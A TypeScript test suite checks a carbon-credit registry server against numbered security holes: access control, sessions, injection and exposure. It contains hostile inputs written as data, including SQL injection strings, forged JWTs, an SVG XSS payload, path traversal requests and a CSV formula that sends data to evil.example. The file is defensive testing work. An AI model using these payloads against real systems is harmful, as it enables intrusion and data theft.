import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { configTable } from '../../apps/server/src/platform/config.ts'
import { Api, issue, signIn } from '../support/api.ts'
import { addressOf, HOLES, openStage, operationsOf, type Stage } from './peer-holes.ts'

const ROOT = join(import.meta.dirname, '../..')
const FILES = ['tests/attack/peer-holes.test.ts', 'tests/attack/peer-holes-money.test.ts']
const source = (path: string) => readFileSync(join(ROOT, path), 'utf8')

let stage: Stage
let batch: string

beforeAll(async () => {
  stage = await openStage()
  const issued = await issue(stage.cast, stage.authorisation, '2024', '1000')
  batch = issued.id
})
afterAll(() => stage?.close())

test('every hole is tried, or its line says what tries it, or why it cannot be here', () => {
  expect(HOLES.map(({ number }) => number)).toEqual(Array.from({ length: 36 }, (_, at) => at + 1))
  const tests = FILES.map(source).join('\n')
  for (const { number, isTried, coveredBy = [], reason } of HOLES) {
    expect(isTried === true || coveredBy.length > 0 || reason !== undefined, `hole ${number}`).toBe(true)
    expect(new RegExp(`test\\('hole ${number}: `).test(tests), `hole ${number} is tried`).toBe(isTried === true)
    for (const [file, title] of coveredBy) {
      // A piece of a test's name: no name at all stands in every file.
      expect(title.length, `hole ${number}: ${file}`).toBeGreaterThan(10)
      expect(source(file), file).toContain(title)
    }
  }
})

/** Sends something that must be refused, and must leave the log as it was. */
async function refused(by: Api, path: string, body: unknown, statuses: readonly number[] = [400, 403, 404, 409, 422]) {
  const before = await stage.size()
  const answer = await by.command(path, body)
  expect(statuses, `${path} ${JSON.stringify(body)}: ${answer.status} ${JSON.stringify(answer.body)}`).toContain(
    answer.status,
  )
  expect(await stage.size()).toBe(before)
  return answer
}

describe('authorisation', () => {
  test('hole 1: what a body says of its sender changes nothing', async () => {
    const { cast, project, authorisation } = stage
    const [sunfield] = cast.developers
    const smuggled = {
      companyId: [sunfield.organisation],
      organisation: sunfield.organisation,
      owner: sunfield.organisation,
      role: 'government/Admin',
      by: sunfield.organisation,
    }
    const decisions: [string, object][] = [
      [`/national/projects/${project}/moves`, { move: 'suspend' }],
      [
        `/national/projects/${project}/authorisations`,
        {
          unitType: 'ITMO',
          quantity: '1',
          purposes: ['NDC'],
          firstTransfer: 'authorisation',
          cooperativeApproach: 'CA0001',
        },
      ],
      ['/national/batches', { authorisation, vintage: '2024', quantity: '1' }],
      [`/national/authorisations/${authorisation}/revocation`, { reason: 'integrity', effectiveFrom: '2026-01-01' }],
      ['/national/holds', { batch, reason: 'investigation' }],
    ]
    for (const [path, body] of decisions) {
      expect((await refused(sunfield.api, path, body, [403])).body.code).toBe('not-permitted')
      for (const [name, value] of Object.entries(smuggled)) {
        const { body: answer } = await refused(sunfield.api, path, { ...body, [name]: value }, [400])
        expect(answer.errors).toMatchObject([{ field: name }])
      }
      await refused(sunfield.api, path, { ...body, ...smuggled }, [400])
    }
  })

  test('hole 2: who may do something to the own project may not do it to another’s', async () => {
    const { cast, project } = stage
    const stranger = await cast.officer.done('/national/organisations', { kind: 'developer', name: 'Stranger Ltd' })
    const opened = await cast.officer.done('/national/accounts', { organisation: stranger.id })
    const { id: holding } = opened.accounts.find(({ kind }: { kind: string }) => kind === 'holding')
    const admin = { email: 'stranger@developer.example', name: 'S', organisation: stranger.id, role: 'Admin' }
    await cast.officer.done('/national/users', admin)
    const api = await signIn(stage.url, await stage.server.linkFor('stranger@developer.example'))
    const path = `/national/projects/${project}`
    await refused(api, `${path}/ownership`, { owners: [{ account: holding, share: '100' }] }, [403])
    await refused(api, `${path}/documents`, { kind: 'project-design', sha256: '0'.repeat(64) }, [403])
    for (const move of ['register', 'suspend', 'resume', 'deregister', 'reject']) {
      const why = { reason: 'integrity', text: 'It is not to our liking at all.' }
      await refused(api, `${path}/moves`, { move, ...why }, [403, 409])
    }
    await refused(api, `${path}/findings`, { kind: 'CAR', text: 'Mine.' }, [403])
    await refused(api, `${path}/issuance-terms`, { buffer: '0', exempt: [], reason: 'request' }, [403])
    const [sunfield] = cast.developers
    const units = { batch, from: sunfield.holding, quantity: '1' }
    await refused(api, '/national/transfers', { ...units, to: holding }, [403])
    await refused(api, '/national/retirements', { ...units, purpose: 'voluntary' }, [403])
  })

  test('hole 3: an API key that is not known opens nothing, not even what is public', async () => {
    const keys = ['x', 'null', '', 'undefined', `tsk_${'0'.repeat(32)}_${'A'.repeat(43)}`, `tsk_${'0'.repeat(75)}`]
    for (const { method, path } of (await operationsOf(stage)).filter((one) => one.method === 'GET')) {
      for (const key of keys) {
        const answer = await fetch(`${stage.url}${addressOf({ path }, '0'.repeat(32))}`, {
          method,
          headers: { api_key: key },
        })
        expect([path, key, answer.status]).toEqual([path, key, 401])
      }
    }
  })

  test('hole 4: a transfer that waits is ended by each side in its own way, and by no stranger', async () => {
    const { cast, nobody } = stage
    const [from, to] = cast.developers
    const wish = { kind: 'transfer', batch, from: from.holding, to: to.holding, quantity: '3', acceptance: true }
    const { id } = await from.api.done('/national/movements', wish)
    const path = `/national/movements/${id}`
    await refused(to.api, `${path}/withdrawal`, {}, [403])
    await refused(from.api, `${path}/decline`, {}, [403])
    await refused(from.api, `${path}/approvals`, {}, [403, 409])
    for (const step of ['withdrawal', 'decline', 'approvals']) await refused(nobody, `${path}/${step}`, {}, [401])
    await from.api.done(`${path}/withdrawal`, {})
    await refused(from.api, `${path}/withdrawal`, {}, [404, 409, 403])
  })

  test('hole 5: whatever needs a sign-in is refused without one, and of others it is not shown', async () => {
    const { cast, nobody } = stage
    const all = await operationsOf(stage)
    expect(all.filter(({ needsSignIn }) => needsSignIn).length).toBeGreaterThan(40)
    for (const { method, path } of all.filter(({ needsSignIn }) => needsSignIn)) {
      const answer = await nobody.send(method, addressOf({ path }, '0'.repeat(32)), undefined, 'k'.repeat(20))
      expect([method, path, answer.status]).toEqual([method, path, 401])
    }
    const [sunfield, trader] = cast.developers
    const { user } = await trader.api.get('/national/sessions/current')
    expect(await sunfield.api.send('GET', `/national/users/${user.id}`)).toMatchObject({ status: 404 })
    for (const list of ['users', 'api-keys']) {
      const { items } = await sunfield.api.get(`/national/${list}`)
      const organisations = items.map((one: { organisation: string }) => one.organisation)
      expect(new Set([...organisations, sunfield.organisation])).toEqual(new Set([sunfield.organisation]))
    }
    expect(await sunfield.api.send('GET', '/national/audit')).toMatchObject({ status: 403 })
    expect(await sunfield.api.send('GET', '/national/mail')).toMatchObject({ status: 403 })
  })

  test('hole 6: no filter of the sender widens what is shown', async () => {
    const { cast } = stage
    const [sunfield, trader] = cast.developers
    const wide = [
      'filterOr=[{"key":"id","operation":"!=","value":""}]',
      'filterAnd=[]',
      'sort=id',
      'or=1',
      'where=true',
    ]
    for (const list of ['users', 'proposals', 'movements', 'registrations']) {
      for (const filter of wide) {
        const answer = await sunfield.api.send('GET', `/national/${list}?${encodeURI(filter)}`)
        expect([list, filter, answer.status]).toEqual([list, filter, 400])
      }
    }
    const others = await sunfield.api.send('GET', `/national/users?organisation=${trader.organisation}`)
    expect(others.status).toBe(403)
    await cast.officer.command('/national/batches', {
      authorisation: stage.authorisation,
      vintage: '2024',
      quantity: '2',
    })
    expect((await sunfield.api.get('/national/proposals')).items).toEqual([])
  })

  test('hole 7: nobody comes in as the government, or with a role of his choice', async () => {
    const { nobody, cast } = stage
    const eve = { name: 'Eve', email: 'eve@example.org' }
    const wish = (kind: string) => ({ ...eve, organisation: { kind, name: 'Eve Ltd' } })
    for (const kind of ['government', 'ministry', 'api', 'system', 'root']) {
      const { status, body } = await nobody.command('/national/registrations', wish(kind))
      expect([kind, status, body.code]).toEqual([kind, 422, 'code-unknown'])
    }
    for (const role of ['Root', 'Admin', 'government/Root']) {
      const asked = wish('developer')
      for (const smuggled of [
        { ...asked, role },
        { ...asked, organisation: { ...asked.organisation, role } },
      ]) {
        const { status, body } = await nobody.command('/national/registrations', smuggled)
        expect([status, body.errors[0].field]).toEqual([400, expect.stringMatching(/role$/)])
      }
    }
    expect((await nobody.command('/national/registrations', wish('developer'))).status).toBe(201)
    const [sunfield] = cast.developers
    const { organisation } = await cast.root.get('/national/sessions/current')
    for (const role of ['Root', 'Admin', 'Manager', 'ViewOnly']) {
      const user = { email: `${role}@eve.example`, name: 'Eve', organisation: organisation.id, role }
      await refused(sunfield.api, '/national/users', user, [403, 422])
      await refused(cast.officer, '/national/users', { ...user, role: 'Root' }, [403])
    }
  })

  test('hole 8: a session ends with its sign-out, and is worth nothing while its organisation is suspended', async () => {
    const { cast } = stage
    const made = await cast.officer.done('/national/organisations', { kind: 'developer', name: 'Pale Sun Ltd' })
    const opened = await cast.officer.done('/national/accounts', { organisation: made.id })
    const accounts = new Map<string, string>(
      opened.accounts.map(({ id, kind }: { id: string; kind: string }) => [kind, id]),
    )
    const user = { email: 'pale@developer.example', name: 'P', organisation: made.id, role: 'Admin' }
    await cast.officer.done('/national/users', user)
    const pale = await signIn(stage.url, await stage.server.linkFor('pale@developer.example'))
    const [sunfield] = cast.developers
    const gift = { batch, from: sunfield.holding, to: accounts.get('holding'), quantity: '20' }
    await sunfield.api.done('/national/transfers', gift)
    const reason = 'investigation'
    const suspension = await cast.officer.command(`/national/organisations/${made.id}/suspend`, { reason })
    if (suspension.status === 202) {
      await cast.second.done(`/national/proposals/${suspension.body.id}/approvals`, { sha256: suspension.body.sha256 })
    }
    const units = { batch, from: accounts.get('holding'), quantity: '1' }
    await refused(pale, '/national/transfers', { ...units, to: sunfield.holding }, [401, 403, 409])
    await refused(pale, '/national/retirements', { ...units, purpose: 'voluntary' }, [401, 403, 409])
    await refused(sunfield.api, '/national/transfers', { ...gift, quantity: '1' }, [403, 409])
    const leaver = { email: 'leaver@authority.example', name: 'L', role: 'ViewOnly' }
    const { organisation } = await cast.root.get('/national/sessions/current')
    await cast.root.done('/national/users', { ...leaver, organisation: organisation.id })
    const leaving = await signIn(stage.url, await stage.server.linkFor('leaver@authority.example'))
    expect((await leaving.send('DELETE', '/national/sessions/current')).status).toBe(204)
    expect((await leaving.send('GET', '/national/sessions/current')).status).toBe(401)
  })

  test('hole 9: nobody gives himself a role or an address, removes himself, or the last Admin', async () => {
    const { cast } = stage
    const [sunfield] = cast.developers
    const { user } = await sunfield.api.get('/national/sessions/current')
    for (const body of [{ role: 'Root' }, { email: 'other@example.org' }, { organisation: '0'.repeat(32) }]) {
      expect(await sunfield.api.send('PUT', '/national/users/current', body)).toMatchObject({ status: 400 })
    }
    await refused(sunfield.api, `/national/users/${user.id}/role`, { role: 'Manager' }, [403])
    const removal = (by: Api) => by.send('DELETE', `/national/users/${user.id}`, undefined, 'removal-of-a-user-1')
    expect((await removal(sunfield.api)).status).toBe(403)
    expect(await removal(cast.officer)).toMatchObject({ status: 409, body: { code: 'last-admin' } })
  })
})

describe('injection and exposure', () => {
  test('hole 10: no parameter of any read reaches the database as SQL', async () => {
    const { cast, pool } = stage
    const before = await stage.size()
    const hostile = [
      "'; DROP TABLE ledger_entry; --",
      "' OR '1'='1",
      '1; SELECT pg_sleep(60)',
      "\\'; --",
      '$1',
      '%27%20OR',
      '{"$ne":1}',
    ]
    for (const operation of (await operationsOf(stage)).filter(({ method }) => method === 'GET')) {
      for (const text of hostile) {
        const query = operation.parameters
          .filter((one) => one.in === 'query')
          .map(({ name }) => `${name}=${encodeURIComponent(text)}`)
        const addresses = [
          addressOf(operation, text),
          ...query.map((one) => `${addressOf(operation, '0'.repeat(32))}?${one}`),
        ]
        for (const address of addresses) {
          const { status } = await cast.officer.send('GET', address)
          expect([address, status < 500]).toEqual([address, true])
        }
      }
    }
    const { rows } = await pool.query<{ count: string }>('SELECT count(*) FROM ledger_entry')
    expect([await stage.size(), Number(rows[0]?.count)]).toEqual([before, before])
  })

  test('hole 11: no token, link or key stands in the database', async () => {
    const { cast, pool, url, server } = stage
    const { developers } = cast
    const made = await developers[0].api.done('/national/api-keys', { name: 'Program', scopes: ['read'] })
    const email = 'sunfield@developer.example'
    const { user } = await developers[0].api.get('/national/sessions/current')
    await cast.officer.done(`/national/users/${user.id}/sign-in-links`, undefined)
    const link = await server.linkFor(email)
    const { token } = (await new Api(url).send('POST', '/national/sessions', { token: link })).body
    const { rows } = await pool.query<{ name: string }>(
      `SELECT tablename AS name FROM pg_tables WHERE schemaname = current_schema()`,
    )
    let found = ''
    for (const { name } of rows.filter((one) => !one.name.startsWith('ledger_entry'))) {
      const all = await pool.query<{ row: string }>(`SELECT t::text AS row FROM "${name}" t`)
      found += all.rows.map(({ row }) => row).join('\n')
    }
    expect(found.length).toBeGreaterThan(1_000)
    const secrets = [made.key, made.key.split('_').at(-1), token, new URL(link).searchParams.get('token')]
    for (const secret of secrets) expect(found.includes(String(secret))).toBe(false)
  })

  test('hole 12: there is no secret that could have a default, and no token that anybody could sign', async () => {
    for (const line of configTable()
      .split('\n')
      .filter((row) => /SECRET|PASSWORD/.test(row))) {
      expect(line).toMatch(/^\| `\w+` \| {2}\|/)
    }
    const { user } = await stage.cast.root.get('/national/sessions/current')
    const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
    const { createHmac } = await import('node:crypto')
    for (const secret of ['1324', '9823', '', 'secret']) {
      const head = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: user.id, role: 'Root', exp: 9_999_999_999 })}`
      const signed = `${head}.${createHmac('sha256', secret).update(head).digest('base64url')}`
      for (const token of [signed, `${part({ alg: 'none' })}.${part({ sub: user.id })}.`]) {
        expect((await new Api(stage.url, token).send('GET', '/national/users')).status).toBe(401)
      }
    }
  })

  test('hole 13: tokens are 256 random bits, and no answer tells whether an address is a user’s', async () => {
    const { nobody, cast, server, pool } = stage
    const { user } = await cast.developers[1].api.get('/national/sessions/current')
    const tokens = new Set<string>()
    for (let round = 0; round < 5; round += 1) {
      await cast.officer.done(`/national/users/${user.id}/sign-in-links`, undefined)
      const link = await server.linkFor('green@developer.example')
      tokens.add(new URL(link).searchParams.get('token') ?? '')
    }
    for (const token of tokens) expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/)
    const ask = (email: string) =>
      nobody.command('/national/registrations', {
        name: 'Eve',
        email,
        organisation: { kind: 'developer', name: 'Eve Ltd' },
      })
    const [known, unknown] = [await ask('green@developer.example'), await ask('nobody@example.org')]
    expect([known.status, unknown.status]).toEqual([201, 201])
    expect(Object.keys(known.body).sort()).toEqual(Object.keys(unknown.body).sort())
    const statuses: number[] = []
    for (let at = 0; at < 60; at += 1) statuses.push((await ask(`flood${at}@example.org`)).status)
    expect(statuses).toContain(429)
    await pool.query('DELETE FROM content_throttle')
  })

  test('hole 14: the log of the server holds no body, no token and no name', async () => {
    const { cast, server } = stage
    const [sunfield] = cast.developers
    const secret = 'a-text-that-nobody-prints'
    await sunfield.api.command('/national/projects', { title: secret, sectoralScope: '99', methodology: secret })
    await new Api(stage.url, secret).send('GET', '/national/users')
    await sunfield.api.send('GET', `/national/users/${secret}`)
    await sunfield.api.command('/national/transfers', { batch, from: sunfield.holding, quantity: secret })
    const printed = server.output().replace(/^.*sign-in\?token=.*$/gm, '')
    expect(printed).not.toContain(secret)
    expect(printed).not.toMatch(/INSERT INTO|SELECT .* FROM|Bearer /)
  })

  test('hole 15: other origins read only the log; every answer has its headers; bodies and pictures are bounded', async () => {
    const { nobody, cast, url } = stage
    const home = await fetch(`${url}/`, { headers: { origin: 'https://evil.example' } })
    expect(home.headers.get('access-control-allow-origin')).toBeNull()
    expect(home.headers.get('content-security-policy')).toContain("default-src 'none'")
    expect(home.headers.get('x-content-type-options')).toBe('nosniff')
    const users = await fetch(`${url}/national/users`, { headers: { origin: 'https://evil.example' } })
    expect(users.headers.get('access-control-allow-origin')).toBeNull()
    expect((await fetch(`${url}/log/checkpoint`)).headers.get('access-control-allow-origin')).toBe('*')
    const large = await cast.officer.command('/national/organisations', {
      kind: 'developer',
      name: 'x'.repeat(3_000_000),
    })
    expect(large.status).toBe(413)
    const [sunfield] = cast.developers
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64')
    const picture = (content: string) =>
      sunfield.api.send('PUT', `/national/organisations/${sunfield.organisation}/logo`, { content })
    const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
    expect((await picture(dot)).status).toBe(204)
    expect(await picture(svg)).toMatchObject({ status: 400, body: { errors: [{ field: 'content' }] } })
    for (const path of [
      '/uploads',
      '/documents',
      '/../package.json',
      '/assets/../../package.json',
      '/data/signer/key.pem',
    ]) {
      expect((await nobody.send('GET', path)).status).toBe(404)
    }
  })

  test('hole 16: no cell begins a formula; public lists are bounded and tell no address', async () => {
    const { cast, nobody } = stage
    const [sunfield] = cast.developers
    const owners = [{ account: sunfield.holding, share: '100' }]
    const title = '=HYPERLINK("http://evil.example?"&A1,"x")'
    const asked = { title, sectoralScope: '1', methodology: 'AMS-I.D', owners }
    const { id } = await sunfield.api.done('/national/projects', asked)
    const files = [`/national/projects/${id}/ledger.csv`, `/national/accounts/${sunfield.holding}/ledger.csv`]
    for (const path of [...files, '/national/ledgers/country.csv']) {
      const file = await nobody.get(path)
      expect(file).not.toMatch(/(^|[,\n])"?[=+@]/)
    }
    expect(await cast.officer.get('/national/audit.csv')).not.toMatch(/(^|[,\n])"?[=+@]/)
    const list = await nobody.get('/national/organisations')
    expect(JSON.stringify(list)).not.toMatch(/@|taxId|phone|email/)
    for (const limit of ['0', '201', '100000', '-1', '1e3', 'all']) {
      expect((await nobody.send('GET', `/national/organisations?limit=${limit}`)).status).toBe(400)
    }
  })
})
